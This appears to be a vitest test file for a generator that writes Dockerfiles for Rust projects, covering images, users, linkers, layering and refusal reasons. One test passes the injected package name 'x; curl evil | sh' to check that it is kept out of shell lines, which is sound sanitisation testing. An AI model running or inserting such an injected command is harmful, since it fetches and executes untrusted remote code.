import { describe, expect, test } from 'vitest'
import { artifact } from '../../../generators/build/dockerfile/index.ts'
import type { Service } from '../../../src/detect/types.ts'
import { renderOne } from '../../support/context.ts'
import { contextWith, dockerfile, fact, patternsOf, RUST } from './support.ts'

test('a Rust program is compiled on Debian 13 and runs on distroless as a user with a number', async () => {
  const text = await dockerfile(await contextWith(RUST))
  expect(text).toMatch(/^FROM rust:\d+\.\d+(\.\d+)?-slim-trixie AS toolchain$/m)
  expect(text).toMatch(/^FROM gcr\.io\/distroless\/cc-debian13:nonroot AS runtime$/m)
  expect(text).toMatch(/^USER 65532:65532$/m)
  expect(text).not.toMatch(/^HEALTHCHECK/m)
})

test('a program that does not handle SIGTERM is not the first process', async () => {
  const text = await dockerfile(await contextWith(RUST))
  expect(text).toMatch(/^ENTRYPOINT \["\/usr\/bin\/tini", "--", "\/usr\/local\/bin\/shop"\]$/m)
  expect(text).toContain('COPY --from=toolchain /usr/bin/tini-static /usr/bin/tini')
  const handled = await dockerfile(
    await contextWith({ ...RUST, 'src/stop.rs': 'fn stop() { signal(SignalKind::terminate()); }\n' }),
  )
  expect(handled).toMatch(/^ENTRYPOINT \["\/usr\/local\/bin\/shop"\]$/m)
  expect(handled).not.toContain('tini')
})

test('the linker that flags ask for is installed', async () => {
  const flags =
    '[target.x86_64-unknown-linux-gnu]\nrustflags = ["-C", "linker=clang", "-C", "link-arg=-fuse-ld=lld"]\n[target.x86_64-apple-darwin]\nrustflags = ["-C", "link-arg=-fuse-ld=/opt/ld64.lld"]\n'
  expect(await dockerfile(await contextWith({ ...RUST, '.cargo/config.toml': flags }))).toMatch(
    /clang=1:19\.\* lld=1:19\.\*/,
  )
})

test('dependencies are compiled before the code comes in', async () => {
  const lines = (await dockerfile(await contextWith(RUST))).split('\n')
  const build = lines.slice(lines.findIndex(line => line.endsWith('AS build')))
  expect(build.findIndex(line => line.startsWith('RUN cargo build'))).toBeLessThan(
    build.findIndex(line => line.startsWith('COPY . ')),
  )
})

test('a folder that the code names is beside the program, at its place', async () => {
  const main = `${RUST['src/main.rs'] ?? ''}fn settings() { std::env::current_dir().unwrap().join("configuration"); sqlx::migrate!("./migrations"); }\n`
  const files = {
    'src/main.rs': main,
    'Cargo.toml': `${RUST['Cargo.toml'] ?? ''}sqlx = "0.8"\n`,
    'configuration/base.yaml': 'port: 1\n',
    'migrations/1.sql': '',
    'notes/a.md': '',
  }
  const text = await dockerfile(await contextWith({ ...RUST, ...files }))
  expect(text).toContain('COPY configuration /app/configuration')
  expect(text).toMatch(/^WORKDIR \/app$/m)
  expect(text).not.toMatch(/COPY (migrations|notes)/)
})

test('code in vendored and patched folders belongs to the dependency layer', async () => {
  const manifest = `${RUST['Cargo.toml'] ?? ''}\n[patch.crates-io]\nserde = { path = "patched/serde" }\n`
  const config = '[source.crates-io]\nreplace-with = "vendored"\n[source.vendored]\ndirectory = "vendor"\n'
  const text = await dockerfile(
    await contextWith({
      ...RUST,
      'Cargo.toml': manifest,
      '.cargo/config.toml': config,
      'patched/serde/Cargo.toml': '[package]\nname = "serde"\nversion = "1.0.0"\n',
    }),
  )
  expect(text).toContain("! -path './patched/serde/*'")
  expect(text).toContain("! -path './vendor/*'")
})

describe.each<[string, Partial<Service>, readonly RegExp[]]>([
  [
    'a library that the program links against',
    { runtimePackages: [fact('libpq5')], buildPackages: [fact('libpq-dev')] },
    [/libpq-dev=17\.\*/, /^FROM debian:trixie-slim AS runtime$/m, /ca-certificates=\S+ libpq5=17\.\*/],
  ],
  [
    'OpenSSL, which distroless has',
    { runtimePackages: [fact('libssl3t64')], buildPackages: [fact('libssl-dev'), fact('pkg-config')] },
    [/libssl-dev=3\.\* pkg-config=1\.\*/, /^FROM gcr\.io\/distroless\/cc-debian13:nonroot AS runtime$/m],
  ],
  [
    'a variable for the address',
    {
      host: fact({ loopbackOnly: true, variable: 'ROCKET_ADDRESS' }),
      portVariable: fact('ROCKET_PORT'),
      port: fact(8000),
    },
    [/ROCKET_ADDRESS=0\.0\.0\.0/, /ROCKET_PORT=8000/, /^EXPOSE 8000$/m],
  ],
  [
    'one variable for address and port',
    { host: fact({ loopbackOnly: true, variable: 'LISTEN' }), portVariable: fact('LISTEN'), port: fact(9000) },
    [/LISTEN=0\.0\.0\.0:9000/],
  ],
])('with %s', (_what, service, expected) => {
  test('the Dockerfile says so', async () => {
    const text = await dockerfile(await contextWith(RUST, { service }))
    for (const pattern of expected) expect(text).toMatch(pattern)
  })
})

test('a package that is no Debian package name does not get into a shell line', async () => {
  const text = await dockerfile(await contextWith(RUST, { service: { buildPackages: [fact('x; curl evil | sh')] } }))
  expect(text).not.toContain('evil')
})

test('answers of a database beside the code make a build without one possible', async () => {
  const files = {
    ...RUST,
    'Cargo.toml': `${RUST['Cargo.toml'] ?? ''}sqlx = "0.8"\n`,
    'src/main.rs': `${RUST['src/main.rs'] ?? ''}fn q() { sqlx::query!("select 1"); }\n`,
    '.sqlx/query-1.json': '{}',
  }
  expect(await dockerfile(await contextWith(files))).toMatch(/^ENV SQLX_OFFLINE=true$/m)
})

function locked(crate: string, version: string): string {
  return `version = 4\n\n[[package]]\nname = "${crate}"\nversion = "${version}"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n`
}

const reasons: readonly [string, Readonly<Record<string, string>>, Partial<Service>, RegExp][] = [
  [
    'queries that need a database while compiling',
    {
      'Cargo.toml': `${RUST['Cargo.toml'] ?? ''}sqlx = "0.8"\n`,
      'src/q.rs': 'fn q() {\n  sqlx::query_as!(User, "select 1");\n}\n',
    },
    {},
    /cargo sqlx prepare.*src\/q\.rs:2/,
  ],
  [
    'the loopback address and no variable',
    {},
    { host: { ...fact({ loopbackOnly: true }), evidence: [{ path: 'src/main.rs', line: 4, rule: 'bind' }] } },
    /loopback address.*src\/main\.rs:4/,
  ],
  [
    'another target',
    { '.cargo/config.toml': '[build]\ntarget = "wasm32-unknown-unknown"\n' },
    {},
    /another target.*\.cargo\/config\.toml/,
  ],
  [
    'a linker nobody knows',
    { '.cargo/config.toml': '[target.x86_64-unknown-linux-gnu]\nlinker = "./my-linker.sh"\n' },
    {},
    /my-linker\.sh/,
  ],
  [
    'a crate outside the repository',
    { 'Cargo.toml': `${RUST['Cargo.toml'] ?? ''}shared = { path = "../shared" }\n` },
    {},
    /\.\.\/shared, which is outside/,
  ],
  [
    'a private registry',
    {
      'Cargo.lock':
        'version = 4\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "sparse+https://crates.acme.test/index/"\n',
    },
    {},
    /registry that needs credentials.*Cargo\.lock:6/,
  ],
  ['the newest nightly', { 'rust-toolchain': 'nightly\n' }, {}, /whatever nightly compiler.*rust-toolchain/],
  ['a crate that Rust broke', { 'Cargo.lock': locked('time', '0.3.20') }, {}, /cargo update -p time.*Cargo\.lock:5/],
  [
    'a subcommand',
    {
      'src/main.rs': `${RUST['src/main.rs'] ?? ''}struct Cli {\n    #[command(subcommand)]\n    command: Command,\n}\n`,
    },
    {},
    /subcommand.*src\/main\.rs:8/,
  ],
  [
    'a command line that is one of several subcommands',
    {
      'src/main.rs': `${RUST['src/main.rs'] ?? ''}#[derive(StructOpt)]\nenum Options {\n    Init,\n    Daemon,\n}\nfn read() { let options = Options::from_args(); }\n`,
    },
    {},
    /subcommand.*src\/main\.rs:8/,
  ],
  [
    'a .dockerignore that hides the lock file',
    { '.dockerignore': '# mine\n*.lock\n' },
    {},
    /Cargo\.lock is needed.*\.dockerignore:2/,
  ],
]
test.each(reasons)(
  'no Dockerfile is written for %s, and the reason names the place',
  async (_what, files, service, reason) => {
    const ctx = await contextWith({ ...RUST, ...files }, { service })
    expect(artifact.audit(ctx).reason).toMatch(reason)
    expect(await renderOne(artifact, ctx)).toEqual([])
  },
)

test.each([
  ['a version that still compiles', { 'Cargo.lock': locked('time', '0.3.17') }],
  ['a compiler that still takes it', { 'Cargo.lock': locked('time', '0.3.20'), 'rust-toolchain': '1.79.0\n' }],
])('a crate that Rust broke is no obstacle in %s', async (_what, files) => {
  expect(artifact.applies(await contextWith({ ...RUST, ...files }))).toBe(true)
})

test('an optional subcommand is no obstacle', async () => {
  const main = `${RUST['src/main.rs'] ?? ''}struct Cli {\n    #[command(subcommand)]\n    command: Option<Command>,\n}\n`
  expect(artifact.applies(await contextWith({ ...RUST, 'src/main.rs': main }))).toBe(true)
})

test('the toolchain file of a release stays out of the image, that of a nightly gets in', async () => {
  const released = await contextWith({ ...RUST, 'rust-toolchain.toml': '[toolchain]\nchannel = "1.90.0"\n' })
  expect(patternsOf(await renderOne(artifact, released))).toContain('rust-toolchain.toml')
  expect(await dockerfile(released)).toContain('FROM rust:1.90.0-slim-trixie')
  const nightly = await contextWith({ ...RUST, 'rust-toolchain.toml': '[toolchain]\nchannel = "nightly-2026-01-01"\n' })
  expect(patternsOf(await renderOne(artifact, nightly))).not.toContain('rust-toolchain.toml')
  expect(await dockerfile(nightly)).toContain("! -name 'rust-toolchain*'")
})
